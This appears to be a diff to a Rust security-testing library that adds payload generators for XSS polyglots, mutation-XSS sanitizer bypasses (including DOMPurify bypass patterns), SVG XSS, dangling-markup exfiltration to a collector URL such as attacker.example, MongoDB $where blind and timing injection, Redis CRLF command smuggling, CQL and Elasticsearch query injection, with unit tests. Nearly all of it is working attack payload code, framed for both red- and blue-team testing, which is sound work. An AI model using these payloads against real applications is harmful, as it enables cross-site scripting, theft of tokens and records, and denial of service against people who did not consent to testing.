@@ -1,4 +1,9 @@
+use crate::json::json_string;
+use crate::result::TransformResult;
 use crate::rng::SimpleRng;
+use crate::transformations::dedup_preserving_order;
+use crate::transformations::encoding::{base64_encode_bytes, hex_encode, url_encode};
+use std::fmt;
 
 /// Inserts SQL comment patterns for SQL injection testing.
 ///
@@ -13,23 +18,58 @@ use crate::rng::SimpleRng;
 /// assert!(result.contains("SELECT") && result.len() >= "SELECT * FROM users".len());
 /// ```
 pub fn sql_comment_injection(input: &str) -> String {
+    sql_comment_injection_detailed(input).output
+}
+
+/// Like [`sql_comment_injection`], also reporting which comment styles
+/// were inserted.
+///
+/// The `styles` parameter lists the distinct comment markers used, in order
+/// of first use and separated by `, `, and `comments` counts the
+/// insertions. Whitespace is collapsed, so the result is not reversible.
+///
+/// # Examples
+///
+/// ```
+/// use redstr::sql_comment_injection_detailed;
+/// let result = sql_comment_injection_detailed("SELECT * FROM users");
+/// assert_eq!(result.technique, "sql_comment");
+/// assert!(result.parameter("comments").is_some());
+/// ```
+pub fn sql_comment_injection_detailed(input: &str) -> TransformResult {
     let mut rng = SimpleRng::new();
     let comments = ["--", "/**/", "#", "-- -"];
     let words: Vec<&str> = input.split_whitespace().collect();
+    let mut styles: Vec<&str> = Vec::new();
+    let mut count = 0;
 
-    words
+    let output = words
         .iter()
         .enumerate()
         .map(|(i, word)| {
             if i > 0 && rng.next() % 3 == 0 {
                 let comment = comments[rng.next() as usize % comments.len()];
+                if !styles.contains(&comment) {
+                    styles.push(comment);
+                }
+                count += 1;
                 format!("{}{}", comment, word)
             } else {
                 word.to_string()
             }
         })
         .collect::<Vec<_>>()
-        .join(" ")
+        .join(" ");
+
+    TransformResult {
+        output,
+        technique: "sql_comment",
+        parameters: vec![
+            ("styles", styles.join(", ")),
+            ("comments", count.to_string()),
+        ],
+        reversible: false,
+    }
 }
 
 /// Generates XSS tag variations for testing XSS filters.
@@ -77,6 +117,304 @@ pub fn xss_tag_variations(input: &str) -> String {
         .collect()
 }
 
+/// Highest [`xss_polyglot`] level.
+const XSS_POLYGLOT_MAX_LEVEL: usize = 3;
+
+/// Builds a context-agnostic XSS polyglot sized to a length budget.
+///
+/// Modeled on the 0xsobky polyglot, each level adds the escapes for more
+/// injection contexts while staying within 48, 112 and 160 characters:
+///
+/// 1. HTML body, `<style>` and `<script>` blocks:
+///    `</stYle/</scRipt/--!><sVg/oNloAd=alert()//>`
+/// 2. Adds `javascript:` URLs, JS strings and comments in every quote style,
+///    and unquoted event-handler attributes
+/// 3. Adds `<title>`/`<textarea>` (RCDATA), URL-encoded line breaks that end
+///    `//` comments, and `\x3c`/`\x3e` escapes for JS string sinks
+///
+/// Levels outside `1..=3` are clamped. Line breaks are produced with
+/// [`url_encode`](crate::url_encode) and the escapes with
+/// [`hex_encode`](crate::hex_encode).
+///
+/// # Use Cases
+///
+/// - **Red Team**: Probe a reflection point with one payload when the context is unknown
+/// - **Blue Team**: Verify output encoding holds in every context a value reaches
+///
+/// # Examples
+///
+/// ```
+/// use redstr::xss_polyglot;
+///
+/// assert_eq!(xss_polyglot(1), "</stYle/</scRipt/--!><sVg/oNloAd=alert()//>");
+/// assert!(xss_polyglot(3).starts_with("jaVasCript:/*-/*`/*\\`/*'/*\"/**/"));
+/// assert!(xss_polyglot(3).len() <= 160);
+/// ```
+pub fn xss_polyglot(level: usize) -> String {
+    let level = level.clamp(1, XSS_POLYGLOT_MAX_LEVEL);
+    let crlf = url_encode("\r\n");
+    let segments = [
+        (2, "jaVasCript:".to_string()),
+        (2, "/*-/*`/*\\`/*'/*\"/**/".to_string()),
+        (2, "(/* */oNcliCk=alert() )".to_string()),
+        (2, "//".to_string()),
+        (3, format!("{}{}//", crlf, crlf.to_lowercase())),
+        (1, "</stYle/".to_string()),
+        (3, "</titLe/</teXtarEa/".to_string()),
+        (1, "</scRipt/--!>".to_string()),
+        (3, format!("\\x{}sVg/", hex_encode("<"))),
+        (1, "<sVg/oNloAd=alert()//>".to_string()),
+        (3, format!("\\x{}", hex_encode(">"))),
+    ];
+
+    segments
+        .iter()
+        .filter(|(min_level, _)| *min_level <= level)
+        .map(|(_, segment)| segment.as_str())
+        .collect()
+}
+
+/// Raw-text elements whose content sanitizers and browsers parse differently.
+const MXSS_RAW_TEXT_ELEMENTS: &[&str] = &["noscript", "noembed", "noframes", "xmp", "iframe"];
+
+/// Generates mutation XSS (mXSS) payloads that run `payload` as an event handler.
+///
+/// mXSS markup is harmless as parsed by the sanitizer but changes meaning
+/// when the sanitized DOM is serialized and parsed again by the browser, so
+/// these vectors target sanitizers rather than filters:
+///
+/// - Raw-text elements (`<noscript>`, `<noembed>`, `<xmp>`, ...) hiding a tag
+///   inside an attribute: `<noscript><p title="</noscript><img ...>">`
+/// - SVG/MathML namespace confusion, including the DOMPurify 2.0.0, 2.0.17
+///   and 2.2.2 bypasses built on `<svg></p><style>`, `<mglyph>` and nested forms
+/// - `<template>` content and legacy `<listing>` entity decoding
+///
+/// These are distinct from [`xss_tag_variations`], which only re-encodes an
+/// existing payload.
+///
+/// # Use Cases
+///
+/// - **Red Team**: Bypass HTML sanitizers that re-serialize their output
+/// - **Blue Team**: Regression-test sanitizer upgrades against known mXSS classes
+///
+/// # Examples
+///
+/// ```
+/// use redstr::mutation_xss_payloads;
+/// let payloads = mutation_xss_payloads("alert(1)");
+/// assert!(payloads.contains(
+///     &r#"<noscript><p title="</noscript><img src=x onerror=alert(1)>">"#.to_string()
+/// ));
+/// assert!(payloads.iter().any(|p| p.contains("<mglyph>")));
+/// ```
+pub fn mutation_xss_payloads(payload: &str) -> Vec<String> {
+    let mut payloads: Vec<String> = MXSS_RAW_TEXT_ELEMENTS
+        .iter()
+        .map(|element| {
+            format!(
+                "<{0}><p title=\"</{0}><img src=x onerror={1}>\">",
+                element, payload
+            )
+        })
+        .collect();
+    payloads.extend([
+        // Namespace confusion
+        format!(
+            "<svg></p><style><a id=\"</style><img src=1 onerror={}>\">",
+            payload
+        ),
+        format!(
+            "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;/mglyph&gt;&lt;img&Tab;src=1&Tab;onerror={}&gt;\">",
+            payload
+        ),
+        format!(
+            "<form><math><mtext></form><form><mglyph><style></math><img src onerror={}>",
+            payload
+        ),
+        format!(
+            "<svg><style><img src=x onerror={}></style></svg>",
+            payload
+        ),
+        format!(
+            "<math><style><img src=x onerror={}></style></math>",
+            payload
+        ),
+        format!(
+            "<svg><foreignObject><p><style><!--</style><img src=x onerror={}>--></p></foreignObject></svg>",
+            payload
+        ),
+        // Template content and entity decoding
+        format!(
+            "<template><a title=\"</template><img src=x onerror={}>\"></a></template>",
+            payload
+        ),
+        format!(
+            "<listing>&lt;img src=x onerror={}&gt;</listing>",
+            payload
+        ),
+    ]);
+    payloads
+}
+
+/// Generates dangling-markup injections that leak the rest of the page to `collector_url`.
+///
+/// When script execution is blocked (e.g. by CSP), an unterminated attribute
+/// or element still makes the browser send everything up to the next
+/// matching quote (CSRF tokens, pre-filled fields) to the collector:
+///
+/// - Unterminated `src`/`href`/`background` URLs in both quote styles
+/// - `<meta http-equiv="refresh">` redirects and `<base target>` (leaks via
+///   `window.name`)
+/// - A `<form>` whose `<textarea>` swallows the page on submit, and
+///   `<button formaction>` hijacking an existing form
+/// - CSS `@import` with an unterminated URL
+///
+/// # Use Cases
+///
+/// - **Red Team**: Exfiltrate secrets through HTML injection without JavaScript
+/// - **Blue Team**: Verify CSP `img-src`/`form-action` and the browser's dangling-URL blocking
+///
+/// # Examples
+///
+/// ```
+/// use redstr::dangling_markup;
+/// let payloads = dangling_markup("https://attacker.example/c");
+/// assert!(payloads.contains(&"<img src='https://attacker.example/c?".to_string()));
+/// assert!(payloads.iter().any(|p| p.ends_with("<base target='")));
+/// ```
+pub fn dangling_markup(collector_url: &str) -> Vec<String> {
+    let url = collector_url;
+    vec![
+        format!("<img src='{}?", url),
+        format!("<img src=\"{}?", url),
+        format!("\"><img src='{}?", url),
+        format!("'><img src=\"{}?", url),
+        format!("<table background='{}?", url),
+        format!("<a href='{}?", url),
+        format!("<meta http-equiv=\"refresh\" content='0;url={}?", url),
+        format!("<a href=\"{}\"><base target='", url),
+        format!(
+            "<form action='{}' method=post><button>Continue</button><textarea name=leak>",
+            url
+        ),
+        format!("<button formaction='{}'>Continue</button>", url),
+        format!("<style>@import '{}?", url),
+    ]
+}
+
+const SVG_NS: &str = "http://www.w3.org/2000/svg";
+
+/// Escapes `js` for a double-quoted XML attribute so SVG documents stay well-formed.
+fn svg_attr(js: &str) -> String {
+    js.replace('&', "&amp;")
+        .replace('"', "&quot;")
+        .replace('<', "&lt;")
+}
+
+/// Standalone SVG documents that execute `js` when rendered as a document.
+fn svg_documents(js: &str) -> Vec<String> {
+    let attr = svg_attr(js);
+    vec![
+        format!("<svg xmlns=\"{}\" onload=\"{}\"/>", SVG_NS, attr),
+        format!(
+            "<svg xmlns=\"{}\"><script><![CDATA[{}]]></script></svg>",
+            SVG_NS, js
+        ),
+        format!(
+            "<svg xmlns=\"{}\"><animate onbegin=\"{}\" attributeName=\"x\" dur=\"1s\"/></svg>",
+            SVG_NS, attr
+        ),
+        format!(
+            "<svg xmlns=\"{}\"><a><animate attributeName=\"href\" values=\"javascript:{}\"/><text x=\"20\" y=\"20\">click</text></a></svg>",
+            SVG_NS, attr
+        ),
+        format!(
+            "<svg xmlns=\"{}\"><foreignObject width=\"100\" height=\"100\"><img xmlns=\"http://www.w3.org/1999/xhtml\" src=\"x\" onerror=\"{}\"/></foreignObject></svg>",
+            SVG_NS, attr
+        ),
+    ]
+}
+
+/// Generates SVG-based XSS payloads that execute `js`.
+///
+/// Covers the vectors that survive when SVG is allowed through uploads or
+/// markdown renderers:
+///
+/// - Inline `<svg onload>` and `<svg><script>` for HTML contexts
+/// - `<animate>`/`<set>` `onbegin` handlers and `<animate>` rewriting an
+///   `href` to a `javascript:` URL
+/// - `<use href>` pointing at a base64 `data:` SVG with an `onerror` image
+/// - `<foreignObject>` embedding XHTML with an event handler
+/// - Standalone documents (with `xmlns`) for `.svg` file uploads
+///
+/// Attribute-context payloads escape `&`, `"` and `<` so the documents stay
+/// well-formed XML. See [`svg_xss_data_uris`] for base64 `data:` URI forms.
+///
+/// # Use Cases
+///
+/// - **Red Team**: Find stored XSS through SVG avatar/document uploads
+/// - **Blue Team**: Verify SVG sanitization and `Content-Type`/CSP on served uploads
+///
+/// # Examples
+///
+/// ```
+/// use redstr::svg_xss_payloads;
+/// let payloads = svg_xss_payloads("alert(1)");
+/// assert!(payloads.contains(&"<svg onload=alert(1)>".to_string()));
+/// assert!(payloads.iter().any(|p| p.contains("<foreignObject")));
+/// assert!(payloads.iter().any(|p| p.contains("<use href=\"data:image/svg+xml;base64,")));
+/// ```
+pub fn svg_xss_payloads(js: &str) -> Vec<String> {
+    let attr = svg_attr(js);
+    let use_target = format!(
+        "<svg id=\"x\" xmlns=\"{}\"><image href=\"1\" onerror=\"{}\"/></svg>",
+        SVG_NS, attr
+    );
+    let mut payloads = vec![
+        format!("<svg onload={}>", js),
+        format!("<svg><script>{}</script></svg>", js),
+        format!("<svg><animate onbegin=\"{}\" attributeName=x dur=1s>", attr),
+        format!("<svg><set onbegin=\"{}\" attributeName=x to=1>", attr),
+        format!(
+            "<svg><use href=\"data:image/svg+xml;base64,{}#x\"/></svg>",
+            base64_encode_bytes(use_target.as_bytes())
+        ),
+    ];
+    payloads.extend(svg_documents(js));
+    payloads
+}
+
+/// Wraps standalone SVG XSS documents in base64 `data:image/svg+xml` URIs.
+///
+/// Each URI renders one of the standalone documents from
+/// [`svg_xss_payloads`], for places that accept a URL rather than markup:
+/// markdown images and links, `<object data>`, `<embed src>` and
+/// `<iframe src>`.
+///
+/// # Use Cases
+///
+/// - **Red Team**: Smuggle SVG XSS through URL-only inputs and markdown renderers
+/// - **Blue Team**: Verify `data:` URL scheme filtering
+///
+/// # Examples
+///
+/// ```
+/// use redstr::svg_xss_data_uris;
+/// let uris = svg_xss_data_uris("alert(1)");
+/// assert!(uris.iter().all(|u| u.starts_with("data:image/svg+xml;base64,")));
+/// ```
+pub fn svg_xss_data_uris(js: &str) -> Vec<String> {
+    svg_documents(js)
+        .iter()
+        .map(|doc| {
+            format!(
+                "data:image/svg+xml;base64,{}",
+                base64_encode_bytes(doc.as_bytes())
+            )
+        })
+        .collect()
+}
+
 /// Inserts null byte representations for testing null byte vulnerabilities.
 ///
 /// Randomly inserts null byte string representations (`%00`, `\0`, `\x00`, `&#00;`)
@@ -237,6 +575,7 @@ pub fn command_injection(input: &str) -> String {
 #[cfg(test)]
 mod tests {
     use super::*;
+    use std::collections::HashSet;
 
     #[test]
     fn test_sql_comment_injection() {
@@ -245,6 +584,20 @@ mod tests {
         assert!(result.contains("SELECT") || result.contains("FROM") || result.contains("users"));
     }
 
+    #[test]
+    fn test_sql_comment_injection_detailed() {
+        for _ in 0..20 {
+            let result = sql_comment_injection_detailed("SELECT a FROM b WHERE c = 1");
+            let count: usize = result.parameter("comments").unwrap().parse().unwrap();
+            let styles = result.parameter("styles").unwrap();
+            assert_eq!(styles.is_empty(), count == 0, "{:?}", result);
+            for style in styles.split(", ").filter(|s| !s.is_empty()) {
+                assert!(result.output.contains(style), "{:?}", result);
+            }
+            assert!(result.output.starts_with("SELECT "));
+        }
+    }
+
     #[test]
     fn test_xss_tag_variations() {
         let result = xss_tag_variations("<script>alert(1)</script>");
@@ -276,6 +629,179 @@ mod tests {
         // Should contain original command elements
         assert!(result.contains("ping") || result.contains("example"));
     }
+
+    /// Documented length budget of each polyglot level.
+    const XSS_POLYGLOT_BUDGETS: [usize; XSS_POLYGLOT_MAX_LEVEL] = [48, 112, 160];
+
+    #[test]
+    fn test_xss_polyglot_levels_fit_budgets() {
+        for level in 1..=XSS_POLYGLOT_MAX_LEVEL {
+            let polyglot = xss_polyglot(level);
+            assert!(
+                polyglot.len() <= XSS_POLYGLOT_BUDGETS[level - 1],
+                "{}",
+                level
+            );
+            assert!(polyglot.contains("<sVg/oNloAd=alert()//>"));
+        }
+    }
+
+    #[test]
+    fn test_xss_polyglot_levels_grow() {
+        for level in 2..=XSS_POLYGLOT_MAX_LEVEL {
+            assert!(xss_polyglot(level).len() > xss_polyglot(level - 1).len());
+        }
+        assert!(xss_polyglot(2).starts_with("jaVasCript:"));
+        assert!(xss_polyglot(2).contains("oNcliCk=alert()"));
+        assert!(!xss_polyglot(1).contains("jaVasCript:"));
+    }
+
+    #[test]
+    fn test_xss_polyglot_full() {
+        assert_eq!(
+            xss_polyglot(3),
+            "jaVasCript:/*-/*`/*\\`/*'/*\"/**/(/* */oNcliCk=alert() )//%0D%0A%0d%0a//</stYle/</titLe/</teXtarEa/</scRipt/--!>\\x3csVg/<sVg/oNloAd=alert()//>\\x3e"
+        );
+    }
+
+    #[test]
+    fn test_xss_polyglot_clamps_level() {
+        assert_eq!(xss_polyglot(0), xss_polyglot(1));
+        assert_eq!(xss_polyglot(99), xss_polyglot(XSS_POLYGLOT_MAX_LEVEL));
+    }
+
+    #[test]
+    fn test_mutation_xss_payloads_raw_text_elements() {
+        let payloads = mutation_xss_payloads("alert(1)");
+        for element in MXSS_RAW_TEXT_ELEMENTS {
+            let expected = format!(
+                "<{0}><p title=\"</{0}><img src=x onerror=alert(1)>\">",
+                element
+            );
+            assert!(payloads.contains(&expected), "{}", expected);
+        }
+    }
+
+    #[test]
+    fn test_mutation_xss_payloads_namespace_confusion() {
+        let payloads = mutation_xss_payloads("alert(1)");
+        assert!(payloads.contains(
+            &"<svg></p><style><a id=\"</style><img src=1 onerror=alert(1)>\">".to_string()
+        ));
+        assert!(payloads
+            .iter()
+            .any(|p| p.starts_with("<math><mtext><table><mglyph>")));
+        assert!(payloads
+            .iter()
+            .any(|p| p.starts_with("<form><math><mtext></form>")));
+        assert!(payloads.iter().any(|p| p.starts_with("<template>")));
+    }
+
+    #[test]
+    fn test_mutation_xss_payloads_embed_payload() {
+        let payloads = mutation_xss_payloads("fetch('/x')");
+        assert!(payloads.iter().all(|p| p.contains("fetch('/x')")));
+        let unique: HashSet<&String> = payloads.iter().collect();
+        assert_eq!(unique.len(), payloads.len());
+    }
+
+    #[test]
+    fn test_dangling_markup_unterminated_urls() {
+        let payloads = dangling_markup("https://c.example/");
+        assert!(payloads.contains(&"<img src='https://c.example/?".to_string()));
+        assert!(payloads.contains(&"<img src=\"https://c.example/?".to_string()));
+        assert!(payloads.contains(&"<style>@import 'https://c.example/?".to_string()));
+        assert!(payloads
+            .iter()
+            .any(|p| p.starts_with("<meta http-equiv=\"refresh\"") && p.ends_with('?')));
+    }
+
+    #[test]
+    fn test_dangling_markup_forms_and_base() {
+        let payloads = dangling_markup("https://c.example/");
+        assert!(payloads.contains(&"<a href=\"https://c.example/\"><base target='".to_string()));
+        assert!(payloads
+            .iter()
+            .any(|p| p.contains("action='https://c.example/'")
+                && p.ends_with("<textarea name=leak>")));
+        assert!(payloads
+            .iter()
+            .any(|p| p.contains("formaction='https://c.example/'")));
+        assert!(payloads.iter().all(|p| p.contains("https://c.example/")));
+    }
+
+    #[test]
+    fn test_svg_xss_payloads_inline_vectors() {
+        let payloads = svg_xss_payloads("alert(1)");
+        assert!(payloads.contains(&"<svg onload=alert(1)>".to_string()));
+        assert!(payloads.contains(&"<svg><script>alert(1)</script></svg>".to_string()));
+        assert!(payloads
+            .iter()
+            .any(|p| p.contains("<animate onbegin=\"alert(1)\"")));
+        assert!(payloads
+            .iter()
+            .any(|p| p.contains("<set onbegin=\"alert(1)\"")));
+    }
+
+    #[test]
+    fn test_svg_xss_payloads_use_href_decodes() {
+        let payloads = svg_xss_payloads("alert(1)");
+        let use_href = payloads
+            .iter()
+            .find(|p| p.starts_with("<svg><use href="))
+            .unwrap();
+        assert!(use_href.ends_with("#x\"/></svg>"));
+        let b64 = use_href
+            .trim_start_matches("<svg><use href=\"data:image/svg+xml;base64,")
+            .trim_end_matches("#x\"/></svg>");
+        let decoded = crate::transformations::encoding::base64url_decode(
+            &b64.replace('+', "-").replace('/', "_"),
+        )
+        .unwrap();
+        let doc = String::from_utf8(decoded).unwrap();
+        assert!(doc.contains("id=\"x\""));
+        assert!(doc.contains("onerror=\"alert(1)\""));
+    }
+
+    #[test]
+    fn test_svg_xss_payloads_standalone_documents() {
+        let payloads = svg_xss_payloads("alert(1)");
+        let documents: Vec<&String> = payloads
+            .iter()
+            .filter(|p| p.contains("xmlns=\"http://www.w3.org/2000/svg\""))
+            .collect();
+        assert!(documents.len() >= 5);
+        assert!(payloads
+            .iter()
+            .any(|p| p.contains("values=\"javascript:alert(1)\"")));
+        assert!(payloads.iter().any(|p| p.contains("<foreignObject")));
+    }
+
+    #[test]
+    fn test_svg_xss_payloads_escape_attributes() {
+        let payloads = svg_xss_payloads("alert(\"<x>&\")");
+        assert!(payloads
+            .iter()
+            .any(|p| p.contains("onload=\"alert(&quot;&lt;x>&amp;&quot;)\"")));
+        assert!(payloads
+            .iter()
+            .any(|p| p.contains("<![CDATA[alert(\"<x>&\")]]>")));
+    }
+
+    #[test]
+    fn test_svg_xss_data_uris() {
+        let uris = svg_xss_data_uris("alert(1)");
+        assert_eq!(uris.len(), svg_documents("alert(1)").len());
+        let first = uris[0].trim_start_matches("data:image/svg+xml;base64,");
+        let decoded = crate::transformations::encoding::base64url_decode(
+            &first.replace('+', "-").replace('/', "_"),
+        )
+        .unwrap();
+        assert_eq!(
+            String::from_utf8(decoded).unwrap(),
+            "<svg xmlns=\"http://www.w3.org/2000/svg\" onload=\"alert(1)\"/>"
+        );
+    }
 }
 
 /// Generates MongoDB injection patterns for NoSQL injection testing.
@@ -502,6 +1028,287 @@ pub fn nosql_operator_injection(query: &str) -> String {
     result
 }
 
+/// Delay, in milliseconds, of the time-based blind `$where` payloads.
+const MONGO_WHERE_SLEEP_MS: u32 = 5000;
+
+/// JavaScript expression reading `field` from `this`: dot notation for
+/// identifiers, bracket notation with a quoted key otherwise.
+fn js_this_member(field: &str) -> String {
+    let mut chars = field.chars();
+    let identifier = chars
+        .next()
+        .is_some_and(|c| c.is_ascii_alphabetic() || c == '_' || c == '$')
+        && chars.all(|c| c.is_ascii_alphanumeric() || c == '_' || c == '$');
+    if identifier {
+        format!("this.{}", field)
+    } else {
+        format!("this[{}]", json_string(field))
+    }
+}
+
+/// Generates MongoDB `$where` JavaScript injection payloads targeting `field`.
+///
+/// `$where` evaluates JavaScript against each document, so unlike the
+/// operator patterns of [`nosql_operator_injection`] these payloads execute
+/// code. They come in three groups:
+///
+/// - Boolean: `{"$where": "return true"}` and checks on `this.<field>`,
+///   plus breakouts for a `$where` string built by concatenation
+///   (`' || '1'=='1`, `'; return true; var x='`)
+/// - Boolean blind: `this.<field>.match(/^a/)` and `charCodeAt(0) == 97`,
+///   probes to repeat with each candidate character
+/// - Time-based blind: `sleep(5000)`, conditional sleeps on the same probe,
+///   and a `Date` busy-wait for servers where `sleep` is unavailable
+///
+/// A `field` that is not a JavaScript identifier is read with bracket
+/// notation (`this["first name"]`), and scripts are escaped as JSON strings.
+///
+/// # Use Cases
+///
+/// - **Red Team**: Reach server-side JavaScript and extract fields blindly
+/// - **Blue Team**: Verify `$where` is rejected in user input or `javascriptEnabled` is off
+///
+/// # Examples
+///
+/// ```
+/// use redstr::mongo_where_injection;
+/// let payloads = mongo_where_injection("password");
+/// assert!(payloads.contains(&r#"{"$where": "return true"}"#.to_string()));
+/// assert!(payloads.contains(&r#"{"$where": "this.password.match(/^a/)"}"#.to_string()));
+/// assert!(payloads.iter().any(|p| p.contains("sleep(5000)")));
+/// ```
+pub fn mongo_where_injection(field: &str) -> Vec<String> {
+    let ms = MONGO_WHERE_SLEEP_MS;
+    let member = js_this_member(field);
+    let scripts = [
+        // Boolean
+        "return true".to_string(),
+        "1 == 1".to_string(),
+        format!("{} != null", member),
+        format!("{}.length > 0", member),
+        // Boolean blind
+        format!("{}.match(/^a/)", member),
+        format!("{}.charCodeAt(0) == 97", member),
+        // Time-based blind
+        format!("sleep({}) || true", ms),
+        format!(
+            "if ({}.match(/^a/)) {{ sleep({}) }} return true",
+            member, ms
+        ),
+        format!(
+            "var d = new Date(); while (new Date() - d < {}) {{}} return true",
+            ms
+        ),
+    ];
+    let mut payloads: Vec<String> = scripts
+        .iter()
+        .map(|script| format!(r#"{{"$where": {}}}"#, json_string(script)))
+        .collect();
+    // Breakouts for a $where string built by concatenating user input
+    payloads.extend([
+        "' || '1'=='1".to_string(),
+        "\" || \"1\"==\"1".to_string(),
+        "'; return true; var x='".to_string(),
+        format!("' || {}.match(/^a/) || '", member),
+        format!("'; sleep({}); var x='", ms),
+        format!("' || sleep({}) || '", ms),
+    ]);
+    payloads
+}
+
+/// Generates Redis command injection payloads appended to `input`.
+///
+/// For services that forward user input to Redis over the text protocol
+/// without escaping it, a CR/LF ends the intended command and starts a new
+/// one:
+///
+/// - Inline commands after CRLF or a bare LF: `PING`, `INFO`,
+///   `CONFIG GET dir`, a probe `SET`, and `DEBUG SLEEP 5` for blind timing
+/// - The same smuggling in RESP multi-bulk framing (`*1\r\n$4\r\nPING\r\n`)
+/// - `EVAL` of Lua calling `redis.call`, for reaching commands through
+///   scripting when inline ones are filtered
+///
+/// Every CRLF payload is repeated with `%0D%0A`, for input decoded from a URL.
+///
+/// # Use Cases
+///
+/// - **Red Team**: Smuggle Redis commands through caches, queues and session stores
+/// - **Blue Team**: Verify CR/LF is rejected before user input reaches Redis
+///
+/// # Examples
+///
+/// ```
+/// use redstr::redis_injection;
+/// let payloads = redis_injection("session:42");
+/// assert!(payloads.contains(&"session:42\r\nPING\r\n".to_string()));
+/// assert!(payloads.contains(&"session:42%0D%0APING%0D%0A".to_string()));
+/// assert!(payloads.iter().any(|p| p.contains("EVAL \"return redis.call('INFO')\" 0")));
+/// ```
+pub fn redis_injection(input: &str) -> Vec<String> {
+    let commands = [
+        "PING",
+        "INFO",
+        "CONFIG GET dir",
+        "SET redstr_probe 1",
+        "DEBUG SLEEP 5",
+        "*1\r\n$4\r\nPING",
+        "EVAL \"return redis.call('INFO')\" 0",
+        "EVAL \"return redis.call('CONFIG','GET','dir')\" 0",
+        "EVAL \"return redis.call('SET','redstr_probe','1')\" 0",
+    ];
+    let crlf: Vec<String> = commands
+        .iter()
+        .map(|command| format!("{}\r\n{}\r\n", input, command))
+        .collect();
+
+    let mut payloads = crlf.clone();
+    payloads.push(format!("{}\nPING\n", input));
+    payloads.extend(crlf.iter().map(|payload| payload.replace("\r\n", "%0D%0A")));
+
+    dedup_preserving_order(payloads)
+}
+
+/// Generates Cassandra CQL injection payloads that break out of a string literal holding `input`.
+///
+/// CQL has no `OR` and no `UNION`, so the classic SQL tautologies do not
+/// apply; these payloads use what CQL does offer:
+///
+/// - Quote-escape probes: a lone `'`, a doubled `''` (CQL's escape), a
+///   backslash escape, and a `$$`-quoted string terminator
+/// - `ALLOW FILTERING` abuse, turning a keyed lookup into a filtered scan,
+///   including a full token-range scan on the partition key `id`
+/// - Statement smuggling through `BEGIN BATCH ... APPLY BATCH` and
+///   `system_schema` reads, for drivers or consoles that accept several
+///   statements
+///
+/// Each breakout is closed with `--` or `//`, CQL's line comments.
+///
+/// # Use Cases
+///
+/// - **Red Team**: Test CQL-backed services for injection past the NoSQL label
+/// - **Blue Team**: Verify CQL is built with bound parameters, not concatenation
+///
+/// # Examples
+///
+/// ```
+/// use redstr::cql_injection;
+/// let payloads = cql_injection("admin");
+/// assert!(payloads.contains(&"admin' ALLOW FILTERING; --".to_string()));
+/// assert!(payloads.iter().any(|p| p.contains("BEGIN BATCH")));
+/// ```
+pub fn cql_injection(input: &str) -> Vec<String> {
+    let breakouts = [
+        // Quote-escape probes
+        "'",
+        "''",
+        "\\'",
+        "$$",
+        // ALLOW FILTERING abuse
+        "' ALLOW FILTERING; --",
+        "' ALLOW FILTERING //",
+        "' AND password > '' ALLOW FILTERING; --",
+        "' AND token(id) >= -9223372036854775808 ALLOW FILTERING; --",
+        "' LIMIT 1000000 ALLOW FILTERING; --",
+        // Statement smuggling
+        "'; BEGIN BATCH INSERT INTO redstr_probe (id) VALUES (1); APPLY BATCH; --",
+        "'; BEGIN UNLOGGED BATCH INSERT INTO redstr_probe (id) VALUES (1) USING TTL 60; APPLY BATCH; --",
+        "'; SELECT keyspace_name, table_name FROM system_schema.tables; --",
+        "'; SELECT release_version FROM system.local; --",
+    ];
+    breakouts
+        .iter()
+        .map(|breakout| format!("{}{}", input, breakout))
+        .collect()
+}
+
+/// Quotes `s` as a single-quoted Painless string literal.
+fn painless_string(s: &str) -> String {
+    format!("'{}'", s.replace('\\', "\\\\").replace('\'', "\\'"))
+}
+
+/// Escapes Lucene query syntax characters in a `query_string` field name.
+fn lucene_escape(s: &str) -> String {
+    let mut out = String::with_capacity(s.len());
+    for c in s.chars() {
+        if c.is_whitespace() || "+-=&|><!(){}[]^\"~*?:\\/".contains(c) {
+            out.push('\\');
+        }
+        out.push(c);
+    }
+    out
+}
+
+/// Generates Elasticsearch query-DSL injection payloads targeting `field`.
+///
+/// Three classes, for search endpoints that accept query DSL or splice user
+/// input into it:
+///
+/// - Painless script fields and script queries reading `doc['<field>']`,
+///   `params['_source']` and `Debug.explain`, plus a `startsWith('a')` probe
+///   for blind extraction
+/// - Expensive wildcard, regexp and leading-wildcard `query_string` queries
+///   that exhaust search threads
+/// - Breakouts from user input in a string: a JSON breakout for a value
+///   inside `{"query": {"match": {...}}}` that adds `size` and a match-all
+///   `post_filter`, and Lucene syntax for `query_string` values
+///
+/// `field` is escaped for each context it lands in: JSON strings, Painless
+/// string literals and Lucene field names.
+///
+/// # Use Cases
+///
+/// - **Red Team**: Read unintended fields and stress search clusters through search APIs
+/// - **Blue Team**: Verify scripting is disabled for users and query DSL is not user-controlled
+///
+/// # Examples
+///
+/// ```
+/// use redstr::elasticsearch_injection;
+/// let payloads = elasticsearch_injection("password");
+/// assert!(payloads.iter().any(|p| p.contains(r#""lang": "painless""#)));
+/// assert!(payloads.iter().any(|p| p.contains(r#""regexp""#)));
+/// assert!(payloads.contains(&"*) OR (password:*".to_string()));
+/// ```
+pub fn elasticsearch_injection(field: &str) -> Vec<String> {
+    let key = json_string(field);
+    let doc = format!("doc[{}]", painless_string(field));
+    let lucene = lucene_escape(field);
+    let script_field = |source: String| {
+        format!(
+            r#"{{"script_fields": {{"probe": {{"script": {{"lang": "painless", "source": {}}}}}}}}}"#,
+            json_string(&source)
+        )
+    };
+    vec![
+        // Painless scripts
+        script_field(format!("{}.value", doc)),
+        script_field(format!("params['_source'][{}]", painless_string(field))),
+        script_field(format!("Debug.explain({})", doc)),
+        format!(
+            r#"{{"query": {{"script": {{"script": {{"lang": "painless", "source": {}}}}}}}}}"#,
+            json_string(&format!("{}.value.startsWith('a')", doc))
+        ),
+        // Expensive queries
+        format!(
+            r#"{{"query": {{"wildcard": {{{}: "*a*a*a*a*a*a*a*a*a*a*"}}}}}}"#,
+            key
+        ),
+        format!(r#"{{"query": {{"regexp": {{{}: "(.*a){{50}}"}}}}}}"#, key),
+        format!(
+            r#"{{"query": {{"query_string": {{"query": {}, "allow_leading_wildcard": true}}}}}}"#,
+            json_string(&format!("{}:*a*", lucene))
+        ),
+        // Structural breakouts
+        format!(
+            r#""}}}}, "size": 10000, "_source": [{0}], "post_filter": {{"wildcard": {{{0}: "*"#,
+            key
+        ),
+        "*".to_string(),
+        format!("*) OR ({}:*", lucene),
+        format!("{}:/.*/", lucene),
+    ]
+}
+
 /// Generates Server-Side Template Injection (SSTI) patterns for template injection testing.
 ///
 /// Useful for red team SSTI testing and blue team template validation.
@@ -561,8 +1368,174 @@ pub fn ssti_injection(template: &str) -> String {
     result
 }
 
